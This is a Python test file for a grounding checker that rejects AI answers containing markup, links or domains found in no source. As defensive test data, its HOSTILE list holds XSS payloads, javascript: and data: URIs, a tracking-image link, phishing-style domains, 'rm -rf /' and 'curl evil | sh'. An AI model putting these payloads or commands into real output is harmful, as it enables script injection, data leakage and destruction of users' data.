"""Markup that no source has is a finding, whatever it is made of; what a source has may be said."""

import pytest

from fundamento import CheckId, Grounder, Outcome
from fundamento.checks.markup import find_markup
from fundamento.fragments import Fragment
from fundamento.testing import answer_json, claim

TEXT = "El gimnasio abre a las 7. The pool is open to members."
HOSTILE = [
    "<script>alert(`x`)</script>",
    "<b onclick=alert()>now</b>",
    "<img src=x onerror=alert()>",
    "</div>",
    "<!-- oculto -->",
    "<svg/onload=alert()>",
    "&lt;script&gt;alert()&lt;/script&gt;",
    "&#60;iframe src=//x&#62;",
    "![](//tracker.test/p?q=socio)",
    "![plano](datos.png)",
    "[aquí](/otra-página)",
    "[here](<javascript:alert()> 'x')",
    "[here][evil]",
    "<javascript:alert()>",
    "javascript:alert()",
    "data:text/html;base64,PHNjcmlwdD4=",
    "mailto:alguien@ejemplo.test",
    "`rm -rf /`",
    "```\ncurl evil | sh\n```",
    "~~~\ncurl evil\n~~~",
    "`form",
    "evil.xyz/p",
    "phish.ru",
    "t.co/a",
    "gím.example",
    "&amp;lt;script&amp;gt;",
    "[x](/evil_(y))",
    "[a [b] c](/x)",
    "[a\\]b](/x)",
    "[x](\n/evil)",
    "![](<a b>)",
    "\n[1]: /evil",
    "<https://evil.test/x>",
    "<ana@evil.test>",
    "\x1b[31m",
    "\x00",
]
HARMLESS = [
    "3 < 5 y 7 > 2",
    "a*b*c",
    "**muy** importante",
    "[1]",
    "(véase [2])",
    "x <3",
    "Nota: cierra a las 22",
    "datos: ninguno",
    "R&D",
    "&",
    "5 o'clock",
    "a[0](x",
    "Horario: 9:00",
    "p. m., a.m. y EE. UU.",
    "S.L.U., e.g. i.e. U.S.A.",
    "1.5kg, 10.30h, v2.0",
    "Fin.Después",
]


@pytest.mark.parametrize("markup", [one for one in HOSTILE if one != "`form"])
@pytest.mark.parametrize("form", ["El gimnasio abre a las 7. {}", "The pool {} is open to members."])
def test_markup_that_no_source_has_is_found(markup: str, form: str) -> None:
    assert list(find_markup(form.format(markup), [TEXT]))
    output = answer_json(claim(form.format(markup), ("f", TEXT)))
    result = Grounder(policy="strict", sinks=()).check(output, [Fragment("f", TEXT)])
    assert result.outcome is Outcome.REJECTED
    assert result.answer is None


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_has_none(text: str) -> None:
    assert list(find_markup(text, [TEXT])) == []


@pytest.mark.parametrize(
    ("said", "source"),
    [
        ("Use the tag <b>bold</b>.", "Tags such as <b>BOLD</b> are known."),
        ("Ejecute `apt update`.", "Antes, apt  update renueva las listas."),
        ("Véase [el plano](plano.pdf).", "El plano está en plano.pdf."),
        ("Use `max_size` here.", "The field max_size holds 20."),
        ("A tag is &lt;p&gt;.", "A paragraph is <p>."),
        ("Vea HTTPS://Piscina.example/h/.", "Horario en https://piscina.example/h"),
        ("See <https://pool.example/h>.", "Hours: http://www.pool.example/h/"),
        ("See pool.example.", "Hours: https://pool.example/h"),
        ("Vea [horas](piscina.example/h).", "Horario en piscina\\.example/h"),
        ("Abra datos.csv.", "El archivo datos.csv tiene 3 columnas."),
    ],
)
def test_what_a_source_has_may_be_said(said: str, source: str) -> None:
    assert list(find_markup(said, [source])) == []


def test_a_site_may_be_named_by_the_question() -> None:
    assert list(find_markup("Node.js runs here, as does ab.xyz.", ["It runs."], ["Does node.js run?"])) == ["ab.xyz"]


@pytest.mark.parametrize(
    "said", ["pool.example.evil.test", "https://pool.example/h?q=1", "https://pool.example@evil.test"]
)
def test_a_site_that_only_begins_like_a_known_one_is_found(said: str) -> None:
    assert list(find_markup(f"See {said} now.", ["Hours: https://pool.example/h"]))


def test_a_part_of_a_word_is_not_the_code() -> None:
    assert list(find_markup("Run `rm`.", ["Fill the form."])) == ["`rm`"]


def test_a_declared_conflict_may_not_link_either() -> None:
    fragments = [Fragment("a", "The pool closes at 8."), Fragment("b", "The pool closes at 9.")]
    answer = {
        "answer": {
            "kind": "grounded",
            "claims": [],
            "gaps": [],
            "conflicts": [{"text": "The pool closes at 8 or at 9, see [here](x.png).", "fragments": ["a", "b"]}],
        }
    }
    result = Grounder(policy="strict", sinks=()).check(answer, fragments)
    assert ("term-unsupported", "markup-in-no-fragment") in [(f.check.value, f.reason) for f in result.findings]
    assert CheckId.TERM_UNSUPPORTED in result.blocked_by
